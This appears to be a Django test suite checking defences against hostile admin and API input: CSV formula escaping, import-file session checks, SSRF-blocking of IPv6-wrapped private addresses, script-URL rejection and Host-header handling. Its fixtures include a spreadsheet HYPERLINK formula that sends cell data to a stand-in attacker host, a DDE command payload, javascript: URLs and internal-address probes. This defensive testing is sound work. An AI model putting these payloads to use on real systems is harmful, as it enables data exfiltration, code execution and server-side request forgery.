"""Hostile input from site admins and API callers (issue 25, "Tenancy and input"): exports that stay
text in a spreadsheet, an import step that reads only its own upload, IPv6 addresses that carry a
private IPv4 one, changelist parameters no database can hold, script URLs in blocks, and a foreign
Host header on the API."""

from __future__ import annotations

import ipaddress
import os
import tempfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from integrations.admin.export_safety import escape_formula
from integrations.ai.providers.outbound import OutboundPolicy, OutboundRefused, is_public
from integrations.models import ModelMapping
from pages.blocks import BlockValidationError, validate_block

from .factories import AIUsageFactory, ModelMappingFactory, SiteFactory, SuperUserFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3"]


def export(client, name: str, fields: tuple[str, ...], prefix: str) -> str:
    url = reverse(f"admin:integrations_{name}_export")
    page = client.get(url)
    formats = {label.lower(): value for value, label in page.context["form"].fields["format"].choices}
    response = client.post(url, {"format": formats["csv"], "resource": "0", **{f"{prefix}_{f}": "on" for f in fields}})
    assert response.status_code == 200
    return response.content.decode()


def cells(body: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_escape_formula_keeps_numbers_and_plain_text():
    assert escape_formula("=1+1") == "'=1+1"
    assert escape_formula("-1.5") == "-1.5" and escape_formula(-1.5) == -1.5
    assert escape_formula("gpt-4o") == "gpt-4o" and escape_formula(None) is None


@pytest.mark.django_db
def test_ledger_export_turns_caller_supplied_formulas_into_text(client):
    site = SiteFactory()
    for text in HOSTILE:
        AIUsageFactory(site=site, requested_model=text, served_model=text, request_id=text)
    client.force_login(SuperUserFactory())
    fields = ("requested_model", "served_model", "request_id", "cost")
    body = cells(export(client, "aiusage", fields, "aiusageresource"))
    for text in HOSTILE:
        assert text not in body and "'" + text in body


@pytest.mark.django_db
def test_mapping_export_turns_formulas_into_text(client):
    ModelMappingFactory(logical_name="@SUM(A1:A9)", provider="openai", provider_model_id='=HYPERLINK("x")')
    client.force_login(SuperUserFactory())
    body = cells(
        export(
            client, "modelmapping", ("site", "logical_name", "provider", "provider_model_id"), "modelmappingresource"
        )
    )
    assert "'@SUM(A1:A9)" in body and '\'=HYPERLINK("x")' in body
    assert "@SUM(A1:A9)" not in body


@pytest.mark.django_db
def test_the_import_confirm_step_cannot_name_a_file_of_the_server(client):
    victim = tempfile.NamedTemporaryFile(delete=False, prefix="panel-victim-")  # noqa: SIM115
    victim.write(b"site,logical_name,provider,provider_model_id,is_active\n,x,openai,gpt-4o,1\n")
    victim.close()
    try:
        client.force_login(SuperUserFactory())
        response = client.post(
            reverse("admin:integrations_modelmapping_process_import"),
            {
                "import_file_name": os.path.basename(victim.name),
                "original_file_name": "m.csv",
                "format": "0",
                "resource": "0",
            },
        )
        assert response.status_code == 400
        assert os.path.exists(victim.name)
        assert not ModelMapping.objects.exists()
    finally:
        os.unlink(victim.name)


@pytest.mark.django_db
def test_the_price_import_confirm_step_takes_only_its_own_sessions_file(client):
    from django.test import Client

    client.force_login(SuperUserFactory())
    upload = SimpleUploadedFile(
        "p.csv",
        b"provider,model_id,prompt_per_million,completion_per_million,cache_read_per_million,"
        b"cache_write_per_million\nopenai,gpt-x,1,2,,\n",
        content_type="text/csv",
    )
    preview = client.post(
        reverse("admin:integrations_modelprice_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    data = dict(preview.context["confirm_form"].initial)
    other = Client()
    other.force_login(SuperUserFactory())
    url = reverse("admin:integrations_modelprice_process_import")
    assert other.post(url, data).status_code == 400
    assert client.post(url, data).status_code == 302


@pytest.mark.django_db
def test_an_upload_is_confirmed_from_the_cache_only_by_its_own_session(client, settings):
    from django.test import Client

    assert settings.IMPORT_EXPORT_TMP_STORAGE_CLASS.endswith("CacheStorage")
    admin_user = SuperUserFactory()
    client.force_login(admin_user)
    upload = SimpleUploadedFile(
        "m.csv",
        b"site,logical_name,provider,provider_model_id,is_active\n,house,openai,gpt-4o,1\n",
        content_type="text/csv",
    )
    preview = client.post(
        reverse("admin:integrations_modelmapping_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    data = dict(preview.context["confirm_form"].initial)
    other = Client()
    other.force_login(SuperUserFactory())
    url = reverse("admin:integrations_modelmapping_process_import")
    assert other.post(url, data).status_code == 400  # another session, even a superuser's
    assert not ModelMapping.objects.exists()
    assert client.post(url, data).status_code == 302
    assert ModelMapping.objects.filter(logical_name="house").exists()
    assert client.post(url, data).status_code == 400  # used up: never read twice


@pytest.mark.parametrize(
    "host",
    [
        "::127.0.0.1",
        "64:ff9b::127.0.0.1",
        "64:ff9b::a9fe:a9fe",
        "::ffff:10.0.0.1",
        "::ffff:7f00:1",
        "2002:7f00:1::",
        "2001:0:4136:e378:8000:63bf:80ff:fffe",
        "64:ff9b:1::8.8.8.8",
        "::192.168.1.1",
    ],
)
def test_ipv6_that_carries_a_private_ipv4_is_not_public(host):
    assert not is_public(ipaddress.ip_address(host))
    with pytest.raises(OutboundRefused):
        OutboundPolicy().check_url(f"https://[{host}]/v1")
    with pytest.raises(OutboundRefused):  # at connect time too (a DNS name resolving to it)
        OutboundPolicy().check_address("api.example.com", 443, ipaddress.ip_address(host))


@pytest.mark.parametrize("host", ["64:ff9b::8.8.8.8", "2606:4700:4700::1111", "::ffff:1.1.1.1"])
def test_ipv6_carrying_a_public_ipv4_stays_public(host):
    assert is_public(ipaddress.ip_address(host))
    OutboundPolicy().check_address("api.example.com", 443, ipaddress.ip_address(host))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    [
        "content=99999999999999999999999999:1",
        "content=1:99999999999999999999999999",
        "content=-5:1",
        "created_at__year=99999999999999999999",
        "created_at__year=2026&created_at__month=99999999999999999999",
        "created_at__year=0",
        "created_at__year=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96",
    ],
)
def test_ledger_changelist_parameters_no_database_holds_are_not_a_500(client, query):
    from django.contrib.contenttypes.models import ContentType

    site = SiteFactory()
    AIUsageFactory(
        site=site, content_type=ContentType.objects.get_for_model(site), object_id=site.pk, content_label="Site"
    )  # the content filter has choices, so it runs
    client.force_login(SuperUserFactory())
    response = client.get(reverse("admin:integrations_aiusage_changelist") + "?" + query)
    assert response.status_code in (200, 400)
    if query.startswith("content="):
        assert response.status_code == 200 and response.context["usage_totals"]["rows"] == 0


@pytest.mark.django_db
def test_a_sane_date_drilldown_still_works(client):
    AIUsageFactory()
    client.force_login(SuperUserFactory())
    response = client.get(reverse("admin:integrations_aiusage_changelist") + "?created_at__year=2026")
    assert response.status_code == 200


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
    ],
)
@pytest.mark.parametrize(
    ("block_type", "field", "base"),
    [
        ("hero", "cta_url", {"heading": "Hi"}),
        ("cta", "button_url", {"text": "Buy", "button_text": "Go"}),
    ],
)
def test_block_links_refuse_script_urls(url, block_type, field, base):
    with pytest.raises(BlockValidationError, match=f"{field} may not be a"):
        validate_block(block_type, {**base, field: url})


@pytest.mark.parametrize(
    "url",
    [
        "/contact/",
        "https://shop.example/buy",
        "http://x.example",
        "mailto:a@b.example",
        "tel:+3212345",
        "#order",
        "contact",
        "//cdn.example/x",
    ],
)
def test_block_links_keep_ordinary_addresses(url):
    validate_block("cta", {"text": "Buy", "button_text": "Go", "button_url": url})


@pytest.mark.django_db
def test_block_model_clean_refuses_a_script_url():
    from .factories_cms import BlockFactory

    block = BlockFactory.build(
        page=None, type="cta", content={"text": "a", "button_text": "b", "button_url": "javascript:alert(1)"}
    )
    with pytest.raises(ValidationError):
        block.clean()


@pytest.mark.django_db
def test_a_host_outside_allowed_hosts_gets_json_400_on_the_api(client, settings):
    settings.ALLOWED_HOSTS = ["panel.example.test"]
    response = client.post(
        "/api/ai/generate/", data="{}", content_type="application/json", HTTP_HOST="evil.example.test"
    )
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["error"]["code"] == "bad_request"
    admin = client.get("/admin/login/", HTTP_HOST="evil.example.test")  # elsewhere: Django's own page
    assert admin.status_code == 400 and not admin["Content-Type"].startswith("application/json")
